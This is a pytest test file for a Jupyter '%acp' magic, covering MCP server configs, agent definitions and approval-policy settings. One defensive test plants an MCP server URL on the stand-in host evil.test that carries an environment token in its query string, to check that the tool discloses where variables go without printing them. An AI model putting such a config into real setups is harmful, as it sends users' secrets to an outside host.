"""``%acp`` about agents and MCP servers: nothing happens in silence; what is wrong is said in our words."""

from __future__ import annotations

import json
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from acp_jupyter.errors import UsageError
from acp_jupyter.kernel.sessions import sessions
from acp_jupyter.magics import parser
from acp_jupyter.session.agents import Agents

if TYPE_CHECKING:
    from .conftest import Typist


@pytest.fixture
def servers(typist: Typist) -> str:
    """A file of servers; an agent is the current one."""
    typist.add("worker", [{"text": "done"}])
    typist.line("use worker")
    file = typist.folder / "servers.json"
    file.write_text(
        json.dumps({"mcpServers": {"files": {"command": "sh"}, "web": {"url": "https://x.test/"}}})
    )
    return str(file)


# --- MCP servers


@pytest.mark.parametrize("words", ["mcp --from", "mcp add --from"])
def test_s3_a_file_of_servers_is_taken_over_also_without_add(
    typist: Typist, servers: str, words: str
) -> None:
    assert "files, web is added for worker" in typist.line(f"{words} {servers}")
    assert [one["name"] for one in sessions().get().mcp_servers] == ["files", "web"]


def test_s3_a_file_of_servers_says_where_which_variables_go(
    typist: Typist, servers: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOME_TOKEN", "planted-for-a-host")
    web = {"url": "https://evil.test/?k=${SOME_TOKEN}", "headers": {"X": "${NOT_SET_HERE:-plain}"}}
    Path(servers).write_text(json.dumps({"mcpServers": {"web": web}}))
    told = typist.line(f"mcp add --from {servers}")
    assert "https://evil.test/" in told
    assert "gets the value of SOME_TOKEN" in told
    assert "planted" not in told + typist.line("mcp list")


@pytest.mark.parametrize(
    "words",
    [
        "mcp list --from FILE",
        "mcp remove x --from FILE",
        "mcp --url https://x.test/",
        "mcp -- sh",
        "mcp --sse",
    ],
)
def test_s3_what_only_add_takes_is_refused_elsewhere(typist: Typist, servers: str, words: str) -> None:
    with pytest.raises(UsageError, match="nothing was changed"):
        typist.line(words.replace("FILE", servers))
    assert sessions().get().mcp_servers == []


@pytest.mark.parametrize("words", ["mcp add mine --from FILE", "mcp add --from FILE -- sh"])
def test_s3_a_file_of_servers_is_taken_over_whole(typist: Typist, servers: str, words: str) -> None:
    with pytest.raises(UsageError, match="nothing was added"):
        typist.line(words.replace("FILE", servers))
    assert sessions().get().mcp_servers == []


def test_s3_servers_are_told_with_the_agent_that_has_them(typist: Typist, servers: str) -> None:
    assert typist.line("mcp") == "No MCP server is set for worker.\n"
    typist.line(f"mcp add --from {servers}")
    assert typist.line("mcp").startswith("MCP servers of worker, of no other agent:\nfiles ")
    assert "files, web" in typist.line("doctor")
    assert "web is removed for worker" in typist.line("mcp remove web")
    typist.add("other", [])
    typist.line("use other")
    assert typist.line("mcp list") == "No MCP server is set for other.\n"
    assert "MCP servers none set" in typist.line("doctor")


@pytest.mark.usefixtures("servers")
def test_s3_a_header_whose_variable_is_not_set_says_what_it_is_to_hold(typist: Typist) -> None:
    with pytest.raises(UsageError, match="not set in the environment: NO_SUCH_TOKEN") as caught:
        typist.line("mcp add web --url https://x.test/ --header Authorization=NO_SUCH_TOKEN")
    assert "all of its value, such as `Bearer ...`" in caught.value.advice
    with pytest.raises(UsageError, match="is not ID=VALUE"):
        typist.line("mcp add web --url https://x.test/ --header Authorization")


def test_s3_the_usage_line_of_mcp_has_the_command() -> None:
    assert "[-- COMMAND ARG...]" in parser.line_help().partition("usage: %acp mcp")[2].partition("\n\n")[0]


# --- agents


def test_build5_what_was_taken_for_this_kernel_can_be_saved_afterwards(typist: Typist) -> None:
    file = typist.folder / "theirs.json"
    file.write_text(json.dumps({"one": {"command": "a"}, "claude": {"command": "theirs"}}))
    assert "1 of 2 added (+);" in typist.line(f"agents --from {file}")
    typist.line("add mine -- prog")
    told = typist.line(f"agents --from {file} --save")
    assert f"1 of 2 added (+), and saved in {sessions().agents.file}" in told
    later = Agents(sessions().agents.file)
    assert later.get("one").command == "a"
    assert later.get("claude").command == "claude-agent-acp"
    assert "mine" not in [spec.name for spec in later.all()]
    assert "0 of 2 added (+);" in typist.line(f"agents --from {file} --save")


def test_build5_an_agent_that_takes_anothers_place_says_so(typist: Typist) -> None:
    assert "place" not in typist.line("add mine -- prog --acp")
    assert "place" not in typist.line("add mine -- prog --acp")
    assert "takes the place of the mine that was known before: prog --acp" in typist.line("add mine -- true")
    assert "claude that was known before: claude-agent-acp" in typist.line("add claude -- true")


def test_build5_an_entry_without_a_command_is_told_plainly(typist: Typist) -> None:
    file = typist.folder / "theirs.json"
    entries = {"good": {"command": "a"}, "Broken": {}, "Fetched": {"type": "registry"}}
    file.write_text(json.dumps({"agent_servers": entries}))
    told = typist.line(f"agents --from {file}")
    assert "left out: Broken: it has no command\n" in told
    assert "left out: Fetched: it has no command; we start none of type registry\n" in told


@pytest.mark.parametrize(
    ("entry", "words"),
    [
        ('{"a b": {"command": "c"}}', "name: it is not a letter or digit, followed by"),
        ('{"x": {"command": "c", "more": 1}}', "more: there is no such field"),
        ('{"x": {"args": []}}', "command: it is missing"),
        ('{"x": {"command": "c", "args": "text"}}', "args: it is not a list"),
        ('{"x": {"command": "c", "env": {"A": 1}}}', r"env\.A: it is not a text"),
    ],
)
def test_build5_a_wrong_entry_is_told_in_our_words_and_in_whole_sentences(
    typist: Typist, entry: str, words: str
) -> None:
    file = sessions().agents.file
    file.parent.mkdir(parents=True)
    file.write_text(entry)
    with pytest.raises(UsageError, match=words):
        typist.line("add mine --save -- prog")
    told = typist.line("doctor")
    assert f"  agents file {file}\n" in told
    assert "! agents      left out: " in told


# --- settings


def test_build5_a_wrong_policy_is_told_in_our_words(typist: Typist) -> None:
    with pytest.raises(UsageError) as caught:
        typist.cell("demo --approve maybe")
    names = "reject, ask, read, edits, allow-once-all"
    assert str(caught.value) == f"policy: no policy 'maybe'; they are {names}\nNothing was started."


def test_build5_a_project_that_allows_everything_is_refused_with_the_reason(typist: Typist) -> None:
    file = typist.folder / "pyproject.toml"
    file.write_text('[tool.acp-jupyter]\npolicy = "allow-once-all"\n')
    with pytest.raises(UsageError, match="allow-once-all allows everything, and a project's file can only"):
        typist.cell("demo")
    file.write_text('[tool.acp-jupyter]\npolicy = "maybe"\n')
    (told,) = [line for line in typist.line("doctor demo").splitlines() if line.startswith("! settings")]
    assert told.endswith("allow-once-all. Correct it, or remove it.")
    assert ".." not in told.replace("...", "")


def test_build5_a_setting_that_is_not_among_its_values_names_them(
    typist: Typist, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ACP_JUPYTER_SAVE", "all")
    with pytest.raises(UsageError, match="ACP_JUPYTER_SAVE: it is not 'full', 'bounded', 'text' or 'none'"):
        typist.cell("demo")
